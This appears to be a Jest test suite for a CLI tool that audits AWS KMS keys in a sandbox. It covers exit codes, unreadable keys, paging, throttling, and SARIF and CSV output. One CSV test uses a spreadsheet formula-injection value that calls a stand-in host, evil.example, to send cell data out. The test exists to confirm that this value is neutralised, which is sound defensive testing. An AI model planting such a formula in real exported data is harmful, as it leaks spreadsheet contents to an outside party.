import { CreateGrantCommand, UpdateAliasCommand } from '@aws-sdk/client-kms';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, jest, test } from '@jest/globals';
import { BuiltCommand } from '../built-command.ts';
import { startFront } from './front.ts';
import { governed, open, type ScanStage, shut, startScanStage, typing } from './scan-stage.ts';

// Each command is a process of its own.
jest.setTimeout(60_000);

let command: BuiltCommand;
let stage: ScanStage;
let type: ReturnType<typeof typing>;

beforeAll(async () => {
  command = await BuiltCommand.build();
}, 60_000);
afterAll(() => command?.remove());
beforeEach(async () => {
  stage = await startScanStage();
  type = typing(command, stage);
});
afterEach(() => stage.stop());

const here = ['--region', 'us-east-1'];
const idOf = (arn: string) => arn.replace(/.*key\//, '');

async function json(args: readonly string[] = here, endpoint?: string) {
  const { code, out, err } = await type([...args, '--format', 'json'], {}, endpoint);
  return { code, err, scan: JSON.parse(out) };
}

describe('exit code and totals', () => {
  test('keys that comply end with 0', async () => {
    await stage.newKey({ alias: 'alias/payments' });
    const bare = await stage.newKey();
    const { code, out, err } = await type(here);
    expect([code, err]).toEqual([0, '']);
    expect(out.split('\n').map((line) => line.split(/ {2,}/))).toEqual([
      ['key', 'Region', 'class', 'worst', 'rules'],
      expect.arrayContaining(['us-east-1', 'default', 'compliant']),
      expect.arrayContaining(['us-east-1', 'default', 'compliant']),
      [''],
      ['2 keys in us-east-1: 2 compliant (0 findings)'],
      [''],
    ]);
    expect(out).toContain('alias/payments');
    expect(out).toContain(idOf(bare));
  });

  test('a Region without keys ends with 0', async () => {
    expect(await type(here)).toEqual({
      code: 0,
      out: '0 keys in us-east-1: 0 compliant (0 findings)\n',
      err: '',
    });
  });

  test('keys that do not comply end with 1, worst first, with the rules that they break', async () => {
    await stage.newKey();
    await stage.newKey({ alias: 'alias/still', rotates: false });
    await stage.newKey({ alias: 'alias/open', policy: open() });
    const { code, out } = await type(here);
    expect(code).toBe(1);
    const [, first, second] = out.split('\n').map((line) => line.split(/ {2,}/));
    expect(first).toEqual(['alias/open', 'us-east-1', 'default', 'critical', 'trusted-accounts, users-only']);
    expect(second).toEqual(['alias/still', 'us-east-1', 'default', 'high', 'rotation-enabled']);
    expect(out).toContain('3 keys in us-east-1: 1 compliant, 1 critical, 1 high (3 findings)');
  });

  test('json holds keys, findings, totals, and whether it is complete', async () => {
    const arn = await stage.newKey({
      policy: open(),
      tags: [{ TagKey: 'data-class', TagValue: 'customer' }],
    });
    const { code, scan } = await json();
    expect(code).toBe(1);
    expect(scan).toMatchObject({
      complete: true,
      regions: ['us-east-1'],
      keys: [
        {
          arn,
          class: 'customer-data',
          tags: { 'data-class': 'customer' },
          worst: 'critical',
          rules: ['trusted-accounts', 'users-only'],
        },
      ],
      findings: [
        { key: arn, rule: 'trusted-accounts', severity: 'critical', fix: expect.stringMatching(/./) },
        { key: arn, rule: 'users-only' },
      ],
      unread: [],
      left: [],
      totals: { keys: 1, compliant: 0, worst: { critical: 1, high: 0 }, findings: 2, unread: 0 },
    });
  });
});

describe('what cannot be read', () => {
  test.each<[string, string]>([
    ['the policy', 'kms:GetKeyPolicy'],
    ['what the key is', 'kms:DescribeKey'],
    ['the tags', 'kms:ListResourceTags'],
    ['the rotation', 'kms:GetKeyRotationStatus'],
  ])('%s: the key is counted and named, is never clean, and stops nothing', async (_, action) => {
    await stage.newKey();
    const arn = await stage.newKey({ policy: shut(action) });
    const { code, scan } = await json();
    expect(code).toBe(1);
    expect(scan).toMatchObject({
      complete: false,
      unread: [{ arn, region: 'us-east-1', why: expect.stringContaining('explicit deny') }],
      totals: { keys: 1, compliant: 1, unread: 1 },
    });
    const { out } = await type(here);
    expect(out).toContain(`could not be read:\n  ${arn}: AccessDeniedException: `);
    expect(out).toContain('\n1 could not be read');
  });

  test('grants: the rest of the key is judged, and it is not compliant', async () => {
    const arn = await stage.newKey({ policy: shut('kms:ListGrants') });
    const { code, scan } = await json();
    expect(code).toBe(1);
    expect(scan).toMatchObject({
      complete: false,
      keys: [{ arn, worst: null }],
      unread: [{ arn, why: expect.stringMatching(/^the grants could not all be read: AccessDenied/) }],
      totals: { keys: 1, compliant: 0, unread: 1 },
    });
    expect((await type(here)).out).toContain('not read whole');
  });

  test('a whole Region: the others are scanned', async () => {
    await stage.newKey();
    const front = await startFront(stage.sandbox.endpoint, {
      change: ({ operation }, answer) => (operation === 'ListKeys' ? refuseWest(answer) : answer),
    });
    // The sandbox has no Region that it refuses; an answer that is none is one.
    let asked = 0;
    const refuseWest = (answer: string) => (++asked > 1 ? 'no JSON' : answer);
    const { code, scan } = await json(['--region', 'us-east-1', 'eu-west-1'], front.endpoint);
    await front.stop();
    expect(code).toBe(1);
    expect(scan.complete).toBe(false);
    expect(scan.unread).toEqual([
      { region: expect.stringMatching(/-1$/), why: expect.stringContaining('its keys could not be listed') },
    ]);
  });
});

test('grants are judged: one for a stranger is found', async () => {
  const arn = await stage.newKey();
  await stage.kms('root').send(
    new CreateGrantCommand({
      KeyId: arn,
      GranteePrincipal: 'arn:aws:iam::444455556666:role/Partner',
      Operations: ['Decrypt'],
    }),
  );
  const { code, scan } = await json();
  expect([code, scan.keys[0].rules]).toEqual([1, ['grantee']]);
});

test('AWS managed keys are counted, not judged, and their grants not asked for', async () => {
  const managed = idOf(await stage.newKey({ policy: open() }));
  const grantsAsked: string[] = [];
  await stage.newKey();
  const front = await startFront(stage.sandbox.endpoint, {
    before: async ({ operation, body }) => {
      if (operation === 'ListGrants') grantsAsked.push(body);
      return undefined;
    },
    change: ({ operation }, answer) =>
      operation === 'DescribeKey' && answer.includes(managed)
        ? answer.replace('"KeyManager":"CUSTOMER"', '"KeyManager":"AWS"')
        : answer,
  });
  const { code, scan } = await json(here, front.endpoint);
  await front.stop();
  expect([code, scan.totals]).toEqual([0, expect.objectContaining({ keys: 1, compliant: 1, awsManaged: 1 })]);
  expect(grantsAsked).toHaveLength(1);
});

test('each Region that is named is looked at once, and no other', async () => {
  const east = await stage.newKey();
  const west = await stage.newKey({ region: 'eu-west-1', rotates: false });
  await stage.newKey({ region: 'ap-south-1', policy: open() });
  const { code, scan } = await json(['--region', 'us-east-1', 'eu-west-1', '--region', 'us-east-1']);
  expect(code).toBe(1);
  expect(scan.regions).toEqual(['us-east-1', 'eu-west-1']);
  expect(scan.keys.map(({ arn }: { arn: string }) => arn)).toEqual([west, east]);

  const byEnvironment = await type(['--format', 'json'], { AWS_REGION: 'eu-west-1' });
  expect(JSON.parse(byEnvironment.out).regions).toEqual(['eu-west-1']);
});

test('more keys than a page holds are all read, once each, no more at a time than asked', async () => {
  const arns: string[] = [];
  for (let count = 0; count < 120; count += 1) arns.push(await stage.newKey());
  let [pages, most] = [0, 0];
  const atWork = new Set<string>();
  const front = await startFront(stage.sandbox.endpoint, {
    async before({ operation, body }) {
      // A page of fifty: KMS may give fewer than were asked for.
      if (operation === 'ListKeys') pages += 1;
      if (operation === 'ListKeys') return JSON.stringify({ ...JSON.parse(body), Limit: 50 });
      if (operation === 'DescribeKey') atWork.add(body);
      most = Math.max(most, atWork.size);
      return undefined;
    },
    change({ operation, body }, answer) {
      if (operation === 'DescribeKey') atWork.delete(body);
      return answer;
    },
  });
  const { code, scan } = await json([...here, '--concurrency', '5'], front.endpoint);
  await front.stop();
  expect([code, scan.totals.keys, pages]).toEqual([0, 120, 3]);
  expect(scan.keys.map(({ arn }: { arn: string }) => arn).sort()).toEqual(arns.sort());
  expect(most).toBeLessThanOrEqual(5);
});

test('throttling is waited out, for longer than the SDK tries by itself', async () => {
  await stage.newKey();
  stage.sandbox.faults.set({
    errors: [
      { operation: 'ListKeys', code: 'ThrottlingException', times: 5 },
      { operation: 'ListGrants', code: 'ThrottlingException', times: 5 },
    ],
  });
  const { code, scan } = await json();
  expect([code, scan.unread, scan.totals.compliant]).toEqual([0, [], 1]);
});

describe('--class', () => {
  beforeEach(async () => {
    await stage.newKey({ policy: open() });
    await stage.newKey({ alias: 'alias/sandbox-a' });
  });

  test('judges the keys of that class alone, and counts the others', async () => {
    const { code, scan } = await json([...here, '--class', 'sandbox']);
    expect([code, scan.totals]).toEqual([
      0,
      expect.objectContaining({ keys: 1, compliant: 1, otherClasses: 1 }),
    ]);
    expect((await type([...here, '--class', 'default'])).code).toBe(1);
  });
});

describe('sarif', () => {
  test('has a result for each finding, at its key, and a notification for what was not read', async () => {
    const arn = await stage.newKey({ policy: open(), alias: 'alias/open' });
    const unread = await stage.newKey({ policy: shut('kms:GetKeyPolicy') });
    const { code, out } = await type([...here, '--format', 'sarif']);
    expect(code).toBe(1);
    const log = JSON.parse(out);
    expect(log).toMatchObject({ version: '2.1.0', $schema: expect.stringContaining('sarif-2.1.0') });
    const [run] = log.runs;
    expect(run.invocations).toMatchObject([
      {
        executionSuccessful: false,
        toolExecutionNotifications: [
          { level: 'error', locations: [{ logicalLocations: [{ fullyQualifiedName: unread }] }] },
        ],
      },
    ]);
    expect(run.results.map(({ ruleId }: { ruleId: string }) => ruleId)).toEqual([
      'trusted-accounts',
      'users-only',
    ]);
    for (const result of run.results) {
      expect(run.tool.driver.rules[result.ruleIndex].id).toBe(result.ruleId);
      expect(['error', 'warning', 'note']).toContain(result.level);
      expect(result.message.text).not.toBe('');
      expect(result.locations).toEqual([
        { logicalLocations: [{ fullyQualifiedName: arn, kind: 'resource', name: 'alias/open' }] },
      ]);
      expect(result.partialFingerprints['kmsGuardianFinding/v1']).toMatch(/^[\da-f]{16}:\d+$/);
    }
    const again = JSON.parse((await type([...here, '--format', 'sarif'])).out);
    expect(again.runs[0].results).toEqual(run.results);
  });
});

test('csv has a row for each finding, compliant key and unread key, and runs nothing in a spreadsheet', async () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const compliant = await stage.newKey({ tags: [{ TagKey: formula, TagValue: '@SUM(1),\n"2"' }] });
  const broken = await stage.newKey({ policy: open(), alias: 'alias/-a' });
  const unread = await stage.newKey({ policy: shut('kms:GetKeyPolicy') });
  const { code, out } = await type([...here, '--format', 'csv']);
  expect(code).toBe(1);
  expect(out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")=@SUM(1),\n""2"""`);
  const rows = out.split('\r\n');
  expect(rows[0]).toBe('status,key,aliases,tags,region,class,state,severity,rule,message,evidence,fix');
  const starts = rows.slice(1).map((line) => line.split(',').slice(0, 2).join(' '));
  expect(starts).toEqual([
    `finding ${broken}`,
    `finding ${broken}`,
    `compliant ${compliant}`,
    `unread ${unread}`,
  ]);
});

describe('what cannot be done ends with 2, and says what to do', () => {
  test.each<[string, readonly string[], Readonly<Record<string, string | undefined>>, RegExp]>([
    ['no credentials', here, { AWS_ACCESS_KEY_ID: undefined }, /No AWS credentials.*--profile NAME/],
    ['no Region', [], {}, /No AWS Region/],
    ['a Region that is none', ['--region', 'Frankfurt'], {}, /"Frankfurt" is no Region.*eu-west-1/],
    ['such a Region in the environment', [], { AWS_REGION: 'x' }, /"x", as AWS_REGION .* is no Region/],
    ['an unknown class', [...here, '--class', 'customer'], {}, /no class "customer"/],
    ['no such standard', [...here, '--standard', 'none.yaml'], {}, /none\.yaml: there is no such file/],
    ['no number', [...here, '--concurrency', '0'], {}, /whole number from 1 to 50/],
    ['no URL', [...here, '--endpoint', 'localhost'], {}, /Write it as a URL/],
    ['an unknown format', [...here, '--format', 'xml'], {}, /Allowed choices are text, json, sarif, csv/],
    [
      'credentials that AWS does not know',
      here,
      { AWS_ACCESS_KEY_ID: 'AKIAUNKNOWN' },
      /us-east-1: its keys could not be listed: Unrecognized/,
    ],
    ['no such profile', [...here, '--profile', 'none'], {}, /The profile none gives no credentials/],
    [
      'no such table',
      [...here, '--table', 'none'],
      {},
      /The table none in us-east-1 could not be read: ResourceNotFound/,
    ],
  ])('%s', async (_, args, environment, said) => {
    await stage.newKey({ policy: governed() });
    const { code, out, err } = await type(args, environment);
    expect([code, out]).toEqual([2, '']);
    expect(err).toMatch(said);
  });

  test('an endpoint where nobody listens', async () => {
    const { code, out, err } = await type(here, {}, 'http://127.0.0.1:1');
    expect([code, out, err]).toEqual([2, '', expect.stringMatching(/us-east-1: .*ECONNREFUSED/)]);
  });
});

test('an alias that another key took is shown where it is now', async () => {
  await stage.newKey({ alias: 'alias/a' });
  const other = await stage.newKey();
  await stage.kms('root').send(new UpdateAliasCommand({ AliasName: 'alias/a', TargetKeyId: other }));
  const { scan } = await json();
  const found = scan.keys.find(({ aliases }: { aliases: readonly string[] }) => aliases.length > 0);
  expect(found).toMatchObject({ arn: other, aliases: ['alias/a'] });
});
